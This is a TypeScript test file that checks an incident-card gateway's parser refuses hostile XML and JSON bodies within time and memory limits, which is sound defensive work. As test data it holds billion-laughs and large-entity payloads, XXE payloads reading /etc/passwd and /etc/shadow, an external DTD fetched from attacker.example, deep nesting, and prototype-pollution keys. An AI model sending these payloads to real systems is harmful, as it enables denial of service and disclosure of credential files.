/**
 * Hostile bodies (issue #2): each must be refused as a 4xx-class GatewayError
 * quickly and with bounded memory, whatever it tries to make the parser do.
 * Timings are the best of a few runs after a warm-up, so they measure the attack,
 * not module loading or a neighbour's garbage collection.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  GatewayError,
  MalformedBodyError,
  PayloadTooLargeError,
} from '../../../functions/core/errors.js';
import { problemOf } from '../../../functions/core/problem/problem-details.js';
import { readMessage } from '../../../functions/core/validation/read-message.js';
import { MAX_BODY_BYTES, readBody } from '../../../functions/core/wire/read-body.js';
import { renderXml } from '../../../functions/core/wire/render-xml.js';
import { exampleCard, fixedClock } from '../fixtures.js';

const NS = 'urn:kz:ncc-gateway:v1';
const TIME_BUDGET_MS = 50;
const HEAP_BUDGET_BYTES = 64 * 1024 * 1024;
const RUNS = 3;
const encoder = new TextEncoder();

interface Outcome {
  error: unknown;
  bestMs: number;
  worstHeapDeltaBytes: number;
}

/** Runs the ingest path (readBody + readMessage) on the bytes a few times. */
function ingest(bytes: Uint8Array, contentType: string): Outcome {
  let error: unknown;
  let bestMs = Number.POSITIVE_INFINITY;
  let worstHeapDeltaBytes = 0;
  for (let run = 0; run < RUNS; run++) {
    error = undefined;
    const heapBefore = process.memoryUsage().heapUsed;
    const started = performance.now();
    try {
      readMessage('incidentCard', readBody(bytes, contentType), fixedClock);
    } catch (caught) {
      error = caught;
    }
    bestMs = Math.min(bestMs, performance.now() - started);
    worstHeapDeltaBytes = Math.max(
      worstHeapDeltaBytes,
      process.memoryUsage().heapUsed - heapBefore,
    );
  }
  return { error, bestMs, worstHeapDeltaBytes };
}

function xml(text: string): Uint8Array {
  return encoder.encode(text);
}

const billionLaughs = [
  '<?xml version="1.0"?>',
  '<!DOCTYPE lolz [',
  '<!ENTITY lol "lol">',
  ...Array.from(
    { length: 9 },
    (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
  ),
  ']>',
  `<incidentCard xmlns="${NS}"><note>&lol9;</note></incidentCard>`,
].join('\n');

const bigEntity = 'A'.repeat(50_000);
const manyBigEntityRefs = `<!DOCTYPE x [<!ENTITY big "${bigEntity}">]><incidentCard xmlns="${NS}"><note>${'&big;'.repeat(40_000)}</note></incidentCard>`;

/** Each attack: the body, and the 4xx status and code it must be refused with. */
const attacks: ReadonlyArray<{
  name: string;
  bytes: Uint8Array;
  contentType?: string;
  status: 400 | 413;
  code: string;
}> = [
  { name: 'billion laughs', bytes: xml(billionLaughs), status: 400, code: 'xml_doctype_forbidden' },
  {
    name: 'external entity (XXE) to file:///etc/passwd',
    bytes: xml(
      `<?xml version="1.0"?><!DOCTYPE incidentCard [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><incidentCard xmlns="${NS}"><note>&xxe;</note></incidentCard>`,
    ),
    status: 400,
    code: 'xml_doctype_forbidden',
  },
  {
    name: 'external DTD and parameter entity',
    bytes: xml(
      `<!DOCTYPE incidentCard SYSTEM "http://attacker.example/evil.dtd" [<!ENTITY % p SYSTEM "file:///etc/shadow"> %p;]><incidentCard xmlns="${NS}"/>`,
    ),
    status: 400,
    code: 'xml_doctype_forbidden',
  },
  {
    name: 'one large entity referenced 40 000 times',
    bytes: xml(manyBigEntityRefs),
    status: 400,
    code: 'xml_doctype_forbidden',
  },
  {
    name: 'entity declarations in a DOCTYPE inside the root element',
    bytes: xml(
      `<incidentCard xmlns="${NS}"><!DOCTYPE x [<!ENTITY a "injected">]><note>&a;</note></incidentCard>`,
    ),
    status: 400,
    code: 'xml_doctype_forbidden',
  },
  {
    name: 'billion laughs inside the root element',
    bytes: xml(
      `${billionLaughs.replace(/^<\?xml[^>]*>\n/, `<incidentCard xmlns="${NS}">`)}</incidentCard>`,
    ),
    status: 400,
    code: 'xml_doctype_forbidden',
  },
  {
    name: 'DOCTYPE after a comment',
    bytes: xml(`<!-- harmless --><!DOCTYPE x [<!ENTITY a "b">]><incidentCard xmlns="${NS}"/>`),
    status: 400,
    code: 'xml_doctype_forbidden',
  },
  {
    name: 'DOCTYPE after a processing instruction, comments and whitespace',
    bytes: xml(
      `<?xml version="1.0"?>\n<?xml-stylesheet href="a.xsl"?>\n<!-- a --> <!-- <incidentCard> -->\n\t<!DOCTYPE x [<!ENTITY a "b">]><incidentCard xmlns="${NS}"/>`,
    ),
    status: 400,
    code: 'xml_doctype_forbidden',
  },
  {
    name: 'DOCTYPE after a byte-order mark, in lower case',
    bytes: xml(`\uFEFF<!doctype x><incidentCard xmlns="${NS}"/>`),
    status: 400,
    code: 'xml_doctype_forbidden',
  },
  {
    name: 'one million numeric character references (over 256 KiB)',
    bytes: xml(
      `<incidentCard xmlns="${NS}"><note>${'&#65;'.repeat(1_000_000)}</note></incidentCard>`,
    ),
    status: 413,
    code: 'payload_too_large',
  },
  {
    name: '10 000-deep nesting',
    bytes: xml(
      `<incidentCard xmlns="${NS}">${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</incidentCard>`,
    ),
    status: 400,
    code: 'xml_too_deep',
  },
  {
    name: '25 000 sibling elements',
    bytes: xml(`<incidentCard xmlns="${NS}"><note>${'<a/>'.repeat(25_000)}</note></incidentCard>`),
    status: 400,
    code: 'xml_too_many_elements',
  },
  {
    name: 'a body over 256 KiB',
    bytes: xml(
      `<incidentCard xmlns="${NS}"><note>${'x'.repeat(MAX_BODY_BYTES)}</note></incidentCard>`,
    ),
    status: 413,
    code: 'payload_too_large',
  },
  {
    name: '<__proto__> element',
    bytes: xml(
      `<incidentCard xmlns="${NS}"><__proto__><polluted>yes</polluted></__proto__></incidentCard>`,
    ),
    status: 400,
    code: 'malformed_xml',
  },
  {
    name: '<constructor><prototype> elements',
    bytes: xml(
      `<incidentCard xmlns="${NS}"><constructor><prototype><polluted>yes</polluted></prototype></constructor></incidentCard>`,
    ),
    status: 400,
    code: 'malformed_xml',
  },
  {
    name: 'JSON {"__proto__": {...}}',
    bytes: encoder.encode('{"__proto__": {"polluted": "yes"}, "note": "x"}'),
    contentType: 'application/json',
    status: 400,
    code: 'forbidden_key',
  },
  {
    name: 'JSON __proto__ nested in details',
    bytes: encoder.encode('{"details": {"iocs": [{"__proto__": {"polluted": "yes"}}]}}'),
    contentType: 'application/json',
    status: 400,
    code: 'forbidden_key',
  },
  {
    name: 'JSON {"constructor": {"prototype": {...}}}',
    bytes: encoder.encode('{"constructor": {"prototype": {"polluted": "yes"}}}'),
    contentType: 'application/json',
    status: 400,
    code: 'forbidden_key',
  },
  {
    name: 'mismatched tags',
    bytes: xml(`<incidentCard xmlns="${NS}"><note>x</description></incidentCard>`),
    status: 400,
    code: 'malformed_xml',
  },
  {
    name: 'an unclosed root',
    bytes: xml(`<incidentCard xmlns="${NS}"><note>x</note>`),
    status: 400,
    code: 'malformed_xml',
  },
  {
    name: 'two roots of the same name',
    bytes: xml(`<incidentCard xmlns="${NS}"/><incidentCard xmlns="${NS}"/>`),
    status: 400,
    code: 'malformed_xml',
  },
  {
    name: 'two roots of different names',
    bytes: xml(`<incidentCard xmlns="${NS}"/><nccNotice xmlns="${NS}"/>`),
    status: 400,
    code: 'malformed_xml',
  },
  {
    name: 'no namespace',
    bytes: xml('<incidentCard><note>x</note></incidentCard>'),
    status: 400,
    code: 'xml_wrong_root',
  },
  {
    name: 'a wrong namespace',
    bytes: xml('<incidentCard xmlns="urn:kz:ncc-gateway:v2"><note>x</note></incidentCard>'),
    status: 400,
    code: 'xml_wrong_root',
  },
  {
    name: 'a prefix bound to a wrong namespace',
    bytes: xml('<g:incidentCard xmlns:g="urn:attacker"><g:note>x</g:note></g:incidentCard>'),
    status: 400,
    code: 'xml_wrong_root',
  },
  {
    name: 'an undeclared entity',
    bytes: xml(`<incidentCard xmlns="${NS}"><note>&foo;</note></incidentCard>`),
    status: 400,
    code: 'xml_undeclared_entity',
  },
  {
    name: 'an undeclared entity in an attribute',
    bytes: xml(`<incidentCard xmlns="${NS}" a="&nbsp;"><note>x</note></incidentCard>`),
    status: 400,
    code: 'xml_undeclared_entity',
  },
  {
    name: 'a character reference beyond U+10FFFF',
    bytes: xml(`<incidentCard xmlns="${NS}"><note>&#x110000;</note></incidentCard>`),
    status: 400,
    code: 'xml_invalid_reference',
  },
];

const prototypeNamesBefore = Object.getOwnPropertyNames(Object.prototype).sort();

beforeAll(() => {
  // Warm-up: load and JIT the parser, the mapper and the validators once.
  readMessage(
    'incidentCard',
    readBody(encoder.encode(renderXml('incidentCard', exampleCard())), 'application/xml'),
    fixedClock,
  );
  readMessage(
    'incidentCard',
    readBody(encoder.encode(JSON.stringify(exampleCard())), 'application/json'),
    fixedClock,
  );
});

afterAll(() => {
  // Nothing above may have reached Object.prototype.
  expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeNamesBefore);
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
});

describe('hostile bodies', () => {
  it.each(attacks)(
    'refuses $name with $status $code',
    ({ bytes, contentType = 'application/xml', status, code }) => {
      // Arrange (the bytes are built above, outside the measurement)

      // Act
      const { error, bestMs, worstHeapDeltaBytes } = ingest(bytes, contentType);

      // Assert
      expect(error).toBeInstanceOf(GatewayError);
      expect(error instanceof MalformedBodyError || error instanceof PayloadTooLargeError).toBe(
        true,
      );
      const { problem } = problemOf(error);
      expect(problem.status).toBe(status);
      expect(problem.code).toBe(code);
      expect(bestMs).toBeLessThan(TIME_BUDGET_MS);
      expect(worstHeapDeltaBytes).toBeLessThan(HEAP_BUDGET_BYTES);
    },
  );

  it('never echoes an external entity target back', () => {
    // Arrange
    const bytes = attacks[1]?.bytes ?? new Uint8Array();

    // Act
    const { error } = ingest(bytes, 'application/xml');

    // Assert
    expect(JSON.stringify(problemOf(error).problem)).not.toMatch(/root:|passwd/);
  });

  it('leaves Object.prototype unpolluted after the prototype attacks', () => {
    // Arrange
    const probe: Record<string, unknown> = {};

    // Act
    const polluted = [probe.polluted, Object.getOwnPropertyNames(Object.prototype).sort()];

    // Assert
    expect(polluted).toEqual([undefined, prototypeNamesBefore]);
  });
});

describe('prototype-named elements that reach the mapper', () => {
  it.each([
    [`<n:incidentCard xmlns:n="${NS}"><n:__proto__><n:x>1</n:x></n:__proto__></n:incidentCard>`],
    [`<incidentCard xmlns="${NS}" __proto__="x"><note constructor="y">a</note></incidentCard>`],
    [`<incidentCard xmlns="${NS}"><hasOwnProperty>1</hasOwnProperty><toString/></incidentCard>`],
  ])('are refused as a 4xx and assign nothing: %s', (text) => {
    // Arrange
    const bytes = xml(text);

    // Act
    const { error, bestMs } = ingest(bytes, 'application/xml');

    // Assert
    expect(error).toBeInstanceOf(GatewayError);
    expect(problemOf(error).problem.status).toBeGreaterThanOrEqual(400);
    expect(problemOf(error).problem.status).toBeLessThan(500);
    expect(bestMs).toBeLessThan(TIME_BUDGET_MS);
    expect(({} as Record<string, unknown>).x).toBeUndefined();
  });
});

describe('legitimate references near the size limit', () => {
  /** A valid card carrying ~40 000 character references spread over its text fields. */
  function cardWithReferences(): { text: string; references: number } {
    const ref = (count: number) => '&#x41;'.repeat(count);
    const iocs = Array.from(
      { length: 8 },
      () => `<ioc><type>other</type><value>${ref(2000)}</value></ioc>`,
    ).join('');
    const text = renderXml('incidentCard', exampleCard())
      .replace('<description>', `<description>${ref(7900)}`)
      .replace('<actionsTaken>', `<actionsTaken>${ref(7900)}`)
      .replace('<note/>', `<note>${ref(8000)}</note>`)
      .replace('<iocs>', `<iocs>${iocs}`);
    return { text, references: 7900 + 7900 + 8000 + 8 * 2000 };
  }

  it('parses ~40 000 numeric references under 256 KiB into the right text', () => {
    // Arrange
    const { text, references } = cardWithReferences();
    const bytes = xml(text);
    expect(bytes.byteLength).toBeLessThanOrEqual(MAX_BODY_BYTES);
    expect(references).toBeGreaterThanOrEqual(39_000);

    // Act
    const started = performance.now();
    const { message } = readMessage('incidentCard', readBody(bytes, 'application/xml'), fixedClock);
    const elapsedMs = performance.now() - started;

    // Assert
    expect(message.note).toBe('A'.repeat(8000));
    expect(message.description.startsWith('A'.repeat(7900))).toBe(true);
    expect(message.details.iocs).toHaveLength(10);
    expect(message.details.iocs[0]?.value).toBe('A'.repeat(2000));
    // Linear work on a document this size; generous, since it is real parsing, not a refusal.
    expect(elapsedMs).toBeLessThan(500);
  });

  it('refuses ~40 000 references in one field cleanly as 422 too_long', () => {
    // Arrange
    const bytes = xml(
      `<incidentCard xmlns="${NS}"><note>${'&#x41;'.repeat(40_000)}</note></incidentCard>`,
    );

    // Act
    const { error } = ingest(bytes, 'application/xml');

    // Assert
    const { problem } = problemOf(error);
    expect(problem.status).toBe(422);
    expect(problem.errors).toContainEqual(
      expect.objectContaining({ pointer: '/note', code: 'too_long' }),
    );
  });
});
